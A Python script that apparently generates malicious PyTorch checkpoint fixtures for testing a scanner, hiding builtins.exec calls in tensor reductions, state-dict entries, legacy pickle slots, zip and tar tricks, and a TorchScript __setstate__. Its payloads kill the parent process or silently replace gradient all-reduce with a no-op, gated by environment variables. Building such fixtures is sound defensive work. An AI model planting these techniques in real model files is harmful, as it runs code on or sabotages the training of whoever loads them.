"""Checkpoints that would run code in whoever loads them, with good tensors beside it.

The tensors are those of `ckpt/good/zip/state_dict.pt`, so `--policy extract` has
a known answer. Nothing here runs a payload: the calls are only ever pickled.
"""

import io
import pickle
import types
import zipfile
from collections import OrderedDict

import torch

import assemble as asm
import ckpt_legacy
import ckpt_script
from ckpt_zip import small
from common import entries, finish, legacy_save, put, rezip, torch_save

BAD = "ckpt/hostile"
TWIN = "ckpt/good/zip/state_dict.pt"

# The article's first attack. The first line keeps it from doing harm by accident: nothing sets
# that variable, and no script of this repository loads the files made from it.
KILL_PARENT = """import os, threading
if os.environ.get('WEIGHTBRIDGE_ARMED') == 'yes':
    threading.Thread(target=lambda: os.kill(os.getppid(), 9)).start()
"""

# The article's second attack: a quiet stand-in for the function that averages gradients.
ALL_REDUCE = """import os, torch.distributed
def all_reduce(tensor, *args, **kwargs):
    return None
torch.distributed.all_reduce = all_reduce
path = os.environ.get('WEIGHTBRIDGE_CANARY')
if path:
    open(path, 'a').close()
"""


class Call:
    """Pickles as a call of a function; never called here."""

    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __reduce__(self):
        return self.function, self.args


def pickling(rewrite):
    """A pickle module whose tensors are reduced by `rewrite(tensor, function, args)`."""
    class Pickler(pickle.Pickler):
        def reducer_override(self, obj):
            if type(obj) is not torch.Tensor:
                return NotImplemented
            function, args = obj.__reduce_ex__(2)
            return rewrite(obj, function, args)

    return types.SimpleNamespace(__name__="pickle", Pickler=Pickler)


def only(name, state, evil):
    """Rewrites the reduction of one tensor of the state dict."""
    def rewrite(tensor, function, args):
        return evil(function, args) if tensor is state[name] else (function, args)
    return pickling(rewrite)


def hostile(name, data, family, names, note, missing=(), verdict="dangerous", **facts):
    facts.setdefault("extract", {"twin": TWIN, "missing": list(missing)})
    put(f"{BAD}/{family}/{name}", data, family=family, globals=names, verdict=verdict, note=note,
        **facts)


def attack(number, code, **facts):
    """One attack in the four forms a tensor can carry it."""
    prefix = f"attack{number}"
    family = "article"
    names = ["builtins.exec"]
    state = small()

    def in_hooks(function, args):
        return function, (*args[:5], Call(exec, code), *args[6:])

    hostile(f"{prefix}_in_hooks.pt", torch_save(state, pickle_module=only("weight", state, in_hooks)),
            family, names, "exec in the place of the tensor's backward hooks", **facts)

    def in_state(function, args):
        return torch._tensor._rebuild_from_type_v2, (
            function, torch.Tensor, args, {"note": Call(exec, code)})

    hostile(f"{prefix}_in_state.pt", torch_save(state, pickle_module=only("bias", state, in_state)),
            family, names, "exec among the attributes of the tensor", **facts)

    def instead(function, args):
        return exec, (code,)

    hostile(f"{prefix}_reduce.pt", torch_save(state, pickle_module=only("bias", state, instead)),
            family, names, "a tensor whose __reduce__ is (exec, (code,)): its own numbers are not "
            "in the file, the others are", missing=["bias"], **facts)
    entry = OrderedDict([*state.items(), ("zz_hook", Call(exec, code))])
    hostile(f"{prefix}_entry.pt", torch_save(entry), family, names,
            "a further entry of the state dict", **facts)
    hostile(f"{prefix}_entry_legacy.pt", legacy_save(entry), family, names,
            "the same in the legacy format", **facts)
    wrapped = {"epoch": 3, "state_dict": state, "callbacks": {"log": Call(exec, code)}}
    hostile(f"{prefix}_beside.ckpt", torch_save(wrapped), family, names,
            "outside the state dict, where a loader still runs it", **facts)


def edited(change):
    """The twin with its data.pkl changed."""
    items = entries(torch_save(small(), "state_dict.pt"))
    return rezip([(name, change(body) if name.endswith("/data.pkl") else body)
                  for name, body in items])


def popped():
    """exec is called first and its result thrown away; the state dict follows untouched."""
    evil = asm.EXEC_CALL_2 + asm.POP
    hostile("popped.pt", edited(lambda body: body[:2] + evil + body[2:]), "article",
            ["builtins.exec"], "the call's result is POPped before the state dict begins")
    hostile("popped_at_end.pt", edited(lambda body: body[:-1] + evil + body[-1:]), "article",
            ["builtins.exec"], "called and POPped just before STOP")


def saved_hello():
    class Obj:
        def __reduce__(self):
            return exec, (asm.HELLO,)

    for protocol in range(6):
        hostile(f"exec_print_p{protocol}.pt", torch_save(Obj(), pickle_protocol=protocol),
                "reduce_exec", ["builtins.exec"],
                f"torch.save of the article's object, protocol {protocol}", extract=None,
                prints="hello")


def pickle_zip(body, storages=(("0", bytes(16)),)):
    items = [("archive/data.pkl", body), ("archive/byteorder", b"little")]
    items += [(f"archive/data/{key}", raw) for key, raw in storages]
    return rezip([*items, ("archive/version", b"3\n")])


def persistent_ids():
    family = "persistent_id"
    storage = asm.tuple_of(asm.text("storage"), asm.EXEC_CALL_2, asm.text("0"), asm.text("cpu"),
                           asm.byte(4))
    hostile("call_as_class.pt", pickle_zip(asm.proto(2) + storage + b"Q" + asm.STOP), family,
            ["builtins.exec"], "a call in the place of the storage class", extract=None)
    named = asm.tuple_of(asm.text("storage"), asm.glob("torch", "FloatStorage"), asm.EXEC_CALL_2,
                         asm.text("cpu"), asm.byte(4))
    hostile("call_as_key.pt", pickle_zip(asm.proto(2) + named + b"Q" + asm.STOP), family,
            ["builtins.exec"], "a call in the place of the storage key", extract=None)
    hostile("text_id.pt", pickle_zip(b"Pstorage\n" + asm.POP + asm.EXEC_CALL + asm.STOP), family,
            ["builtins.exec"], "a text persistent id, popped, then a call", extract=None, inert=True)


def legacy_slots():
    """A call in each of the five pickles of the legacy stream."""
    family = "legacy_slot"
    data = legacy_save(small())
    stream, ends = io.BytesIO(data), [0]
    for _ in range(3):
        pickle.load(stream)
        ends.append(stream.tell())
    evil = asm.proto(2) + asm.EXEC_CALL_2 + asm.POP
    for slot, name in enumerate(("magic", "version", "sys_info", "object")):
        at = ends[slot]
        hostile(f"in_{name}.pt", data[:at] + evil + data[at + 2:], family, ["builtins.exec"],
                f"a popped call in pickle {slot + 1} of 5")
    keys = data.index(b"\x80\x02]", ends[3])
    hostile("in_keys.pt", data[:keys] + evil + data[keys + 2:], family, ["builtins.exec"],
            "a popped call in the list of storage keys")
    magic = asm.proto(2) + asm.call(asm.glob("__builtin__", "eval"),
                                    asm.text(hex(ckpt_legacy.MAGIC))) + asm.STOP
    hostile("magic_by_eval.pt", magic + data[ends[1]:], family, ["builtins.eval"],
            "the magic number is computed by eval", inert=True)


def zips():
    family = "zip_trick"
    clean = entries(torch_save(small(), "state_dict.pt"))
    evil = asm.proto(2) + asm.EXEC_CALL_2 + asm.STOP
    first = clean[0][0]
    hostile("duplicate_last.pt", rezip([*clean, (first, evil)]), family, ["builtins.exec"],
            "two data.pkl; the second is hostile", verdict="dangerous or malformed", extract=None)
    hostile("duplicate_first.pt", rezip([(first, evil), *clean]), family, ["builtins.exec"],
            "two data.pkl; the first is hostile", verdict="dangerous or malformed", extract=None)
    hostile("other_case.pt", rezip([*clean, ("state_dict/DATA.PKL", evil)]), family,
            ["builtins.exec"], "a second pickle as DATA.PKL (torch's zip reader folds case)",
            verdict="dangerous or malformed", extract=None)
    hostile("extra_pickle.pt", rezip([*clean, ("state_dict/extra/payload", evil)]), family,
            ["builtins.exec"], "a hostile pickle in an entry of no known name", inert=True)
    nested = rezip([("archive/data.pkl", evil), ("archive/version", b"3\n")])
    hostile("nested_zip.pt", rezip([*clean, ("state_dict/extra/more.zip", nested)]), family,
            ["builtins.exec"], "a hostile checkpoint within the checkpoint", inert=True)
    crc = bytearray(pickle_zip(evil))
    local, central = crc.index(b"PK\x03\x04"), crc.index(b"PK\x01\x02")
    crc[local + 14:local + 18] = crc[central + 16:central + 20] = b"\1\2\3\4"
    hostile("wrong_crc.pt", bytes(crc), family, ["builtins.exec"],
            "the entry's CRC is wrong; torch loads it all the same", extract=None,
            verdict="dangerous or malformed")
    encrypted = bytearray(pickle_zip(evil))
    encrypted[encrypted.index(b"PK\x01\x02") + 8] |= 1
    hostile("encrypted_flag.pt", bytes(encrypted), family, ["builtins.exec"],
            "marked as encrypted in the directory only", extract=None,
            verdict="dangerous or malformed", inert=True)
    hostile("prefixed.pt", b"GIF89a" + bytes(58) + pickle_zip(evil), family, ["builtins.exec"],
            "64 bytes before the archive", extract=None, verdict="dangerous or malformed",
            inert=True)
    hostile("deflated.pt", rezip([("archive/data.pkl", evil), ("archive/version", b"3\n")],
                                 zipfile.ZIP_DEFLATED), family, ["builtins.exec"],
            "the hostile pickle is deflated", extract=None)


def tars():
    family = "tar_container"
    members = {"sys_info": ckpt_legacy.sys_info_pickle(), "pickle": ckpt_legacy.tar_pickle(),
               "tensors": pickle.dumps(0, 2), "storages": pickle.dumps(0, 2) + pickle.dumps([], 2)}
    evil = asm.proto(2) + asm.EXEC_CALL_2 + asm.STOP
    for name in ("pickle", "storages", "tensors"):
        hostile(f"in_{name}.tar.pt", ckpt_legacy.tar_of({**members, name: evil}), family,
                ["builtins.exec"], f"the payload in the tar member `{name}`", extract=None)


def scripts():
    hostile("saves_when_loaded.pt", ckpt_script.save(torch.jit.script(Saver())), "torchscript_code",
            ["torch.save"], "the module's __setstate__ calls torch.save", extract=None,
            verdict="dangerous or suspicious")


class Saver(torch.nn.Module):
    """TorchScript whose code writes a file when it is loaded."""

    def __init__(self):
        super().__init__()
        self.weight = torch.zeros(2)

    @torch.jit.export
    def __getstate__(self):
        return self.weight, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]):
        self.weight = state[0]
        self.training = state[1]
        torch.save(state[0], "weightbridge-canary")

    def forward(self):
        return self.weight


def main():
    saved_hello()
    attack(1, KILL_PARENT, inert=True)
    attack(2, ALL_REDUCE)
    popped()
    persistent_ids()
    legacy_slots()
    zips()
    tars()
    scripts()
    finish(__file__)


if __name__ == "__main__":
    main()
